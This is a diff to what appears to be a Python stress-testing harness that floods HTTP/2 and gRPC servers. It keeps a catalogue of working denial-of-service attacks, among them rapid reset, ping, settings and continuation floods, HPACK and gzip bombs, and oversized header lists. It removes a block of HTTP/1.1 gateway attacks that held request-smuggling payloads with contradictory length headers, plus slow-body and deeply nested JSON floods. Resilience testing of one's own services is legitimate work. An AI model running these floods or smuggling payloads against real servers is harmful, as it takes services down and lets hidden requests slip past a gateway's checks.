@@ -8,8 +8,6 @@ import contextlib
 import dataclasses
 import functools
 import gzip
-import itertools
-import re
 import selectors
 import socket
 import ssl
@@ -149,11 +147,11 @@ def _context(protocol):
     return client_context(protocol)
 
 
-def _repeated(one):
+def repeated(one):
     return one * (CHUNK // len(one))
 
 
-def _streams(build, count=20_000):
+def streams(build, count=20_000):
     """A flood of frames with rising stream identifiers; it starts over on a new connection."""
 
     def attack(siege):
@@ -177,46 +175,46 @@ def _streams(build, count=20_000):
 
 
 def settings_flood(siege):
-    siege.flood(b"", _repeated(settings((WINDOW_SIZE, 65_535))))
+    siege.flood(b"", repeated(settings((WINDOW_SIZE, 65_535))))
 
 
 def settings_table_flood(siege):
     one = settings(*[(TABLE_SIZE, 0 if i % 2 else 4096) for i in range(30)])
-    siege.flood(b"", _repeated(one))
+    siege.flood(b"", repeated(one))
 
 
 def ping_flood(siege):
-    siege.flood(b"", _repeated(frame(PING, 0, 0, bytes(8))))
+    siege.flood(b"", repeated(frame(PING, 0, 0, bytes(8))))
 
 
 def unread_ping_flood(siege):
-    siege.flood(b"", _repeated(frame(PING, 0, 0, bytes(8))), reads=False)
+    siege.flood(b"", repeated(frame(PING, 0, 0, bytes(8))), reads=False)
 
 
 def empty_data(siege):
-    siege.flood(siege.head(1), _repeated(frame(DATA, 0, 1)))
+    siege.flood(siege.head(1), repeated(frame(DATA, 0, 1)))
 
 
 def padded_data(siege):
-    siege.flood(siege.head(1), _repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))))
+    siege.flood(siege.head(1), repeated(frame(DATA, PADDED, 1, b"\xff" + bytes(255))))
 
 
 def priority_flood(siege):
-    siege.flood(b"", _repeated(frame(PRIORITY, 0, 7, struct.pack(">IB", 3, 1))))
+    siege.flood(b"", repeated(frame(PRIORITY, 0, 7, struct.pack(">IB", 3, 1))))
 
 
 def window_update_flood(siege):
-    siege.flood(siege.head(1), _repeated(window_update(1, 1)))
+    siege.flood(siege.head(1), repeated(window_update(1, 1)))
 
 
 def unknown_frames(siege):
-    siege.flood(b"", _repeated(frame(0x77, 0, 0, b"x")))
+    siege.flood(b"", repeated(frame(0x77, 0, 0, b"x")))
 
 
-rapid_reset = _streams(lambda siege, stream: siege.head(stream) + rst(stream))
-half_requests = _streams(lambda siege, stream: siege.head(stream), 2_000)
-provoked_resets = _streams(lambda siege, stream: siege.head(stream) + window_update(stream, 0))
-malformed_heads = _streams(
+rapid_reset = streams(lambda siege, stream: siege.head(stream) + rst(stream))
+half_requests = streams(lambda siege, stream: siege.head(stream), 2_000)
+provoked_resets = streams(lambda siege, stream: siege.head(stream) + window_update(stream, 0))
+malformed_heads = streams(
     lambda siege, stream: siege.head(stream, block([(":method", "GET")]))
 )
 
@@ -227,17 +225,17 @@ def _whole(fields):
 
 
 def refused_calls(siege):
-    _streams(_whole(siege.fields("Nothing")))(siege)
+    streams(_whole(siege.fields("Nothing")))(siege)
 
 
 def continuation_flood(siege):
     siege.flood(
-        siege.head(1, flags=0), _repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"))
+        siege.head(1, flags=0), repeated(frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b"))
     )
 
 
 def empty_continuations(siege):
-    siege.flood(siege.head(1, flags=0), _repeated(frame(CONTINUATION, 0, 1)))
+    siege.flood(siege.head(1, flags=0), repeated(frame(CONTINUATION, 0, 1)))
 
 
 def hpack_bomb(siege):
@@ -249,14 +247,14 @@ def hpack_bomb(siege):
 
 def header_lists(siege):
     fields = siege.fields("FullDuplexCall") + literal("x", "y" * 14_000)
-    _streams(_whole(fields), 4_000)(siege)
+    streams(_whole(fields), 4_000)(siege)
 
 
 def gzip_bomb(siege):
     """3 kB that unpack to 3 MB, just below the limit of a message, and some above it."""
     small, large = (gzip.compress(bytes(size << 20), 9) for size in (3, 64))
     fields = siege.fields("UnaryCall", grpc_encoding="gzip")
-    calls = _streams(
+    calls = streams(
         lambda siege, stream: siege.head(stream, fields)
         + b"".join(
             frame(DATA, 0, stream, message(bomb, 1)[i : i + 16_384])
@@ -381,125 +379,12 @@ def neighbor(siege):
             siege.count("calls", together)
 
 
-# -- On the JSON face of a gateway, in HTTP/1.1 unless said otherwise
-
-
-def _post(siege, *lines):
-    """The head of a request that has a body."""
-    fields = [f"{name}: {value}" for name, value in siege.place.fields]
-    lines = ["POST /v1/enrollments HTTP/1.1", "host: localhost", *fields, *lines, "", ""]
-    return "\r\n".join(lines).encode()
-
-
-def _posts(siege, body):
-    """Whole requests, one behind the other."""
-    return _repeated(_post(siege, f"content-length: {len(body)}") + body)
-
-
-def _web(siege):
-    return functools.partial(siege.connect, "http/1.1")
-
-
-# A length and a coding that contradict each other: two parsers see different requests.
-_AMBIGUOUS = (
-    "content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
-    "transfer-encoding: chunked\r\ncontent-length: 200\r\n\r\n0\r\n\r\n",
-    "transfer-encoding: identity\r\ncontent-length: 0\r\n\r\n",
-    "transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
-    "content-length: 0\r\ncontent-length: 5\r\n\r\n",
-    "content-length: +0\r\n\r\n",
-)
-
-
-def smuggled_requests(siege):
-    """Ambiguous requests with another one behind them, which must not be answered."""
-    hidden = b"GET /v1/regions/110000 HTTP/1.1\r\nhost: localhost\r\n\r\n"
-    head = _post(siege)[: -len("\r\n")]
-    for ambiguous in itertools.cycle(_AMBIGUOUS):
-        if not siege.goes_on:
-            return
-        with contextlib.closing(siege.connect("http/1.1")) as connection:
-            siege.count("connections")
-            answers = b""
-            with contextlib.suppress(OSError):
-                connection.sendall(head + ambiguous.encode() + hidden)
-                answers = connection.recv(1 << 16)
-                connection.settimeout(0.01)
-                while chunk := connection.recv(1 << 16):
-                    answers += chunk
-            statuses = re.findall(rb"HTTP/1\.1 (\d+)", answers)
-            siege.count("smuggled" if statuses[1:] else statuses[0].decode() if statuses else "cut")
-
-
-def stated_bodies(siege):
-    """A body of a terabyte by its head."""
-    siege.flood(_post(siege, f"content-length: {1 << 40}"), b" " * CHUNK, opens=_web(siege))
-
-
-def chunked_bodies(siege):
-    """A body without end, in chunks."""
-    chunk = b"8000\r\n" + b" " * 0x8000 + b"\r\n"
-    siege.flood(_post(siege, "transfer-encoding: chunked"), _repeated(chunk), opens=_web(siege))
-
-
-def chunk_framing(siege):
-    """Chunks of a byte, most of which is framing."""
-    chunk = b"1;" + b"x" * 100 + b"\r\n \r\n"
-    siege.flood(_post(siege, "transfer-encoding: chunked"), _repeated(chunk), opens=_web(siege))
-
-
-def oversized_streams(siege):
-    """HTTP/2 requests with the beginning of a gigabyte."""
-    fields = siege.fields(
-        "", _path="/v1/enrollments", content_type="application/json", content_length=str(1 << 30)
-    )
-    body = bytes(1_024)
-    attack = _streams(lambda siege, i: siege.head(i, fields) + frame(DATA, 0, i, body), 2_000)
-    attack(siege)
-
-
-def slow_bodies(siege):
-    def each(connection, is_new):
-        connection.sendall(_post(siege, "content-length: 1000") + b"{" if is_new else b" ")
-
-    siege.hold(300, each, 0.5, opens=_web(siege))
-
-
-def held_bodies(siege):
-    """Bodies of 4 MiB but for their last byte."""
-    length = 4 << 20
-    body = _post(siege, f"content-length: {length}") + b" " * (length - 1)
-
-    def each(connection, is_new):
-        if is_new:
-            connection.sendall(body)
-
-    siege.hold(200, each, opens=_web(siege))
-
-
-def bad_json(siege):
-    siege.flood(b"", _posts(siege, b'{"application":}'), opens=_web(siege))
-
-
-def deep_json(siege):
-    siege.flood(b"", _posts(siege, b'{"application":' * 4_000), opens=_web(siege))
-
-
-def many_wrong_fields(siege):
-    fields = ",".join(f'"x{number}":1' for number in range(1_000))
-    siege.flood(b"", _posts(siege, b"{%s}" % fields.encode()), opens=_web(siege))
-
-
 # Every attack, by the name of its function.
-ATTACKS = (
+_NAMES = (
     "settings_flood settings_table_flood ping_flood unread_ping_flood empty_data padded_data "
     "priority_flood window_update_flood unknown_frames rapid_reset half_requests "
     "provoked_resets malformed_heads refused_calls continuation_flood empty_continuations "
     "hpack_bomb header_lists gzip_bomb slow_preface slow_headers slow_tls tls_handshakes "
     "zero_window never_reading idle_connections reconnections"
 ).split()
-# Those on a gateway's JSON face.
-JSON_ATTACKS = (
-    "smuggled_requests stated_bodies chunked_bodies chunk_framing oversized_streams slow_bodies "
-    "held_bodies bad_json deep_json many_wrong_fields"
-).split()
+ATTACKS = {name: globals()[name] for name in _NAMES}
